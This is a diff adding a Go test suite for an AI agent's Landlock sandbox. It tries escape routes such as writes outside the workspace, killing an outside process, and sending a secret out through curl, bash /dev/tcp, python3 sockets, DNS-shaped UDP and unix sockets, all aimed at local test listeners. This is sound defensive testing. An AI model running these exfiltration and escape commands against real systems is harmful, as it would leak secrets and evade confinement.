@@ -1,0 +1,279 @@
+package sandbox_test
+
+import (
+	"fmt"
+	"os"
+	"os/exec"
+	"path/filepath"
+	"strings"
+	"testing"
+	"time"
+
+	"github.com/mecha-agent/mecha/engine/sandbox"
+	"github.com/mecha-agent/mecha/testkit/sandboxtest"
+)
+
+// confined is the default: Landlock with the network cut.
+var confined = sandbox.Setting{Mode: sandbox.ModeLandlock}
+
+func requireSandbox(t *testing.T) {
+	t.Helper()
+	sup := sandbox.Probe()
+	if sup.Landlock < 1 || !sup.Seccomp {
+		t.Skipf("this kernel cannot sandbox (Landlock ABI %d, seccomp %v)", sup.Landlock, sup.Seccomp)
+	}
+}
+
+// box is a workspace and a private temporary directory, with a home and
+// the rest of the world outside them.
+type box struct {
+	ws, tmp, home, outside string
+}
+
+func newBox(t *testing.T) box {
+	t.Helper()
+	root := t.TempDir()
+	b := box{
+		ws:      filepath.Join(root, "ws"),
+		tmp:     filepath.Join(root, "tmp"),
+		home:    filepath.Join(root, "home"),
+		outside: filepath.Join(root, "outside"),
+	}
+	for _, d := range []string{b.ws, b.tmp, b.home, b.outside} {
+		if err := os.Mkdir(d, 0o700); err != nil {
+			t.Fatal(err)
+		}
+	}
+	return b
+}
+
+// run runs script with /bin/sh in the workspace under s.
+func (b box) run(t *testing.T, s sandbox.Setting, script string) (string, error) {
+	t.Helper()
+	exe, err := os.Executable()
+	if err != nil {
+		t.Fatal(err)
+	}
+	prog, argv, err := sandbox.Command(s, exe, "sandbox.test", b.ws, b.tmp, "/bin/sh", "-c", script)
+	if err != nil {
+		t.Fatal(err)
+	}
+	cmd := &exec.Cmd{Path: prog, Args: argv, Dir: b.ws, Env: []string{
+		"PATH=" + os.Getenv("PATH"), "HOME=" + b.home, "TMPDIR=" + b.tmp,
+		"PROBE=" + exe + " " + sandboxtest.ProbeArg,
+	}}
+	done := make(chan struct{})
+	defer close(done)
+	go func() {
+		select {
+		case <-done:
+		case <-time.After(30 * time.Second):
+			_ = cmd.Process.Kill()
+		}
+	}()
+	out, err := cmd.CombinedOutput()
+	return string(out), err
+}
+
+func exists(p string) bool { _, err := os.Lstat(p); return err == nil }
+
+func have(t *testing.T, tool string) {
+	t.Helper()
+	if _, err := exec.LookPath(tool); err != nil {
+		t.Skipf("%s is not installed: this route is not tried", tool)
+	}
+}
+
+// escape is one attempt to leave the sandbox: setup returns the script
+// and what tells that it got out.
+type escape struct {
+	name  string
+	setup func(t *testing.T, b box) (script string, escaped func(wait time.Duration) bool)
+}
+
+// writeTo is an escape that writes a file and succeeded if it exists.
+func writeTo(target func(b box) (path, script string)) func(*testing.T, box) (string, func(time.Duration) bool) {
+	return func(t *testing.T, b box) (string, func(time.Duration) bool) {
+		p, script := target(b)
+		t.Cleanup(func() { os.Remove(p) })
+		return script, func(time.Duration) bool { return exists(p) }
+	}
+}
+
+// sendTo is an escape that sends a secret to a sink.
+func sendTo(listen func(t *testing.T, b box) *sandboxtest.Sink, script func(addr, secret string) string) func(*testing.T, box) (string, func(time.Duration) bool) {
+	return func(t *testing.T, b box) (string, func(time.Duration) bool) {
+		s := listen(t, b)
+		secret := fmt.Sprintf("secret%d", time.Now().UnixNano())
+		return script(s.Addr, secret), func(wait time.Duration) bool { return s.Received(secret, wait) }
+	}
+}
+
+func tcp(t *testing.T, _ box) *sandboxtest.Sink { return sandboxtest.Listen(t, "tcp", "127.0.0.1:0") }
+func udp(t *testing.T, _ box) *sandboxtest.Sink { return sandboxtest.ListenUDP(t) }
+
+func hostPort(addr string) (string, string) {
+	i := strings.LastIndex(addr, ":")
+	return addr[:i], addr[i+1:]
+}
+
+var escapes = []escape{
+	{"write home", writeTo(func(b box) (string, string) {
+		return filepath.Join(b.home, "pwned"), `echo x > "$HOME/pwned"`
+	})},
+	{"write /tmp outside the private directory", writeTo(func(b box) (string, string) {
+		p := fmt.Sprintf("/tmp/mecha-escape-%d", time.Now().UnixNano())
+		return p, "echo x > " + p
+	})},
+	{"write through a symlink in the workspace", writeTo(func(b box) (string, string) {
+		if err := os.Symlink(b.outside, filepath.Join(b.ws, "link")); err != nil {
+			panic(err)
+		}
+		return filepath.Join(b.outside, "pwned"), "echo x > link/pwned"
+	})},
+	{"write through ..", writeTo(func(b box) (string, string) {
+		return filepath.Join(filepath.Dir(b.ws), "pwned"), "echo x > ../pwned"
+	})},
+	{"rename a workspace file out", writeTo(func(b box) (string, string) {
+		return filepath.Join(b.outside, "moved"), "echo x > f && mv f " + filepath.Join(b.outside, "moved")
+	})},
+	{"tcp connect to a loopback listener", sendTo(tcp, func(addr, secret string) string {
+		return "$PROBE tcp " + addr + " " + secret
+	})},
+	{"udp send to loopback", sendTo(udp, func(addr, secret string) string {
+		return "$PROBE udp " + addr + " " + secret
+	})},
+	{"dns query to a local resolver", sendTo(udp, func(addr, secret string) string {
+		return "$PROBE dns " + addr + " " + secret + ".exfil.test"
+	})},
+	{"unix socket outside the workspace", sendTo(func(t *testing.T, b box) *sandboxtest.Sink {
+		return sandboxtest.Listen(t, "unix", filepath.Join(b.outside, "s.sock"))
+	}, func(addr, secret string) string {
+		return "$PROBE unix " + addr + " " + secret
+	})},
+	{"abstract unix socket", sendTo(func(t *testing.T, b box) *sandboxtest.Sink {
+		return sandboxtest.Listen(t, "unix", fmt.Sprintf("@mecha-escape-%d", time.Now().UnixNano()))
+	}, func(addr, secret string) string {
+		return "$PROBE abstract " + addr + " " + secret
+	})},
+	{"curl to a loopback server", func(t *testing.T, b box) (string, func(time.Duration) bool) {
+		have(t, "curl")
+		return sendTo(tcp, func(addr, secret string) string {
+			return "curl -s -m 2 -d " + secret + " http://" + addr + "/"
+		})(t, b)
+	}},
+	{"bash /dev/tcp redirect", func(t *testing.T, b box) (string, func(time.Duration) bool) {
+		have(t, "bash")
+		return sendTo(tcp, func(addr, secret string) string {
+			h, p := hostPort(addr)
+			return "bash -c 'echo " + secret + " > /dev/tcp/" + h + "/" + p + "'"
+		})(t, b)
+	}},
+	{"python3 socket", func(t *testing.T, b box) (string, func(time.Duration) bool) {
+		have(t, "python3")
+		return sendTo(tcp, func(addr, secret string) string {
+			h, p := hostPort(addr)
+			return fmt.Sprintf(`python3 -c 'import socket; s=socket.create_connection(("%s", %s)); s.sendall(b"%s")'`, h, p, secret)
+		})(t, b)
+	}},
+	{"python3 udp (dns-shaped)", func(t *testing.T, b box) (string, func(time.Duration) bool) {
+		have(t, "python3")
+		return sendTo(udp, func(addr, secret string) string {
+			h, p := hostPort(addr)
+			return fmt.Sprintf(`python3 -c 'import socket; socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"%s", ("%s", %s))'`, secret, h, p)
+		})(t, b)
+	}},
+	{"signal a process outside", func(t *testing.T, b box) (string, func(time.Duration) bool) {
+		victim := exec.Command("sleep", "60")
+		if err := victim.Start(); err != nil {
+			t.Fatal(err)
+		}
+		died := make(chan struct{})
+		go func() { _ = victim.Wait(); close(died) }()
+		t.Cleanup(func() { _ = victim.Process.Kill(); <-died })
+		return fmt.Sprintf("kill -TERM %d", victim.Process.Pid), func(wait time.Duration) bool {
+			select {
+			case <-died:
+				return true
+			case <-time.After(wait):
+				return false
+			}
+		}
+	}},
+}
+
+// TestEscapes tries each escape confined, where it must fail, and
+// unconfined, where it must succeed (so that the test can fail).
+func TestEscapes(t *testing.T) {
+	requireSandbox(t)
+	for _, e := range escapes {
+		t.Run(e.name, func(t *testing.T) {
+			t.Run("confined", func(t *testing.T) {
+				b := newBox(t)
+				script, escaped := e.setup(t, b)
+				out, err := b.run(t, confined, script)
+				if escaped(300 * time.Millisecond) {
+					t.Fatalf("escaped the sandbox: %q (err %v)\n%s", script, err, out)
+				}
+				t.Logf("refused: %v: %s", err, strings.TrimSpace(out))
+			})
+			t.Run("unconfined", func(t *testing.T) {
+				b := newBox(t)
+				script, escaped := e.setup(t, b)
+				out, err := b.run(t, sandbox.None, script)
+				if !escaped(5 * time.Second) {
+					t.Fatalf("the control failed: %q did not get out without the sandbox (err %v)\n%s", script, err, out)
+				}
+			})
+		})
+	}
+}
+
+// TestNetworkOn: with the network on, the sandbox still confines writes
+// but lets a connection out.
+func TestNetworkOn(t *testing.T) {
+	requireSandbox(t)
+	b := newBox(t)
+	s := sandboxtest.Listen(t, "tcp", "127.0.0.1:0")
+	net := sandbox.Setting{Mode: sandbox.ModeLandlock, Network: true}
+	if out, err := b.run(t, net, "$PROBE tcp "+s.Addr+" hello"); err != nil || !s.Received("hello", 2*time.Second) {
+		t.Fatalf("with the network on, a connection failed: %v\n%s", err, out)
+	}
+	if _, err := b.run(t, net, `echo x > "$HOME/pwned"`); err == nil || exists(filepath.Join(b.home, "pwned")) {
+		t.Fatal("with the network on, a write outside the workspace succeeded")
+	}
+}
+
+// TestConfinedWorks: what a command needs still works confined.
+func TestConfinedWorks(t *testing.T) {
+	requireSandbox(t)
+	b := newBox(t)
+	script := `set -e
+echo hi > file && cat file
+mkdir -p d/e && mv file d/e/g && rm -r d
+echo t > "$TMPDIR/t" && cat "$TMPDIR/t"
+echo gone > /dev/null
+head -c 1 /etc/passwd >/dev/null
+ls / >/dev/null
+echo ok`
+	out, err := b.run(t, confined, script)
+	if err != nil || !strings.HasSuffix(strings.TrimSpace(out), "ok") {
+		t.Fatalf("%v\n%s", err, out)
+	}
+}
+
+// TestHelperFailsClosed: a helper that cannot confine does not run the
+// command.
+func TestHelperFailsClosed(t *testing.T) {
+	requireSandbox(t)
+	b := newBox(t)
+	exe, _ := os.Executable()
+	marker := filepath.Join(b.outside, "ran")
+	// A workspace that does not exist cannot be given a rule.
+	cmd := exec.Command(exe, sandbox.HelperArg, "0", filepath.Join(b.ws, "missing"), b.tmp, "--", "/bin/sh", "-c", "echo x > "+marker)
+	out, err := cmd.CombinedOutput()
+	var ee *exec.ExitError
+	if !errorsAs(err, &ee) || ee.ExitCode() != 126 || exists(marker) {
+		t.Fatalf("err %v, ran %v\n%s", err, exists(marker), out)
+	}
+}
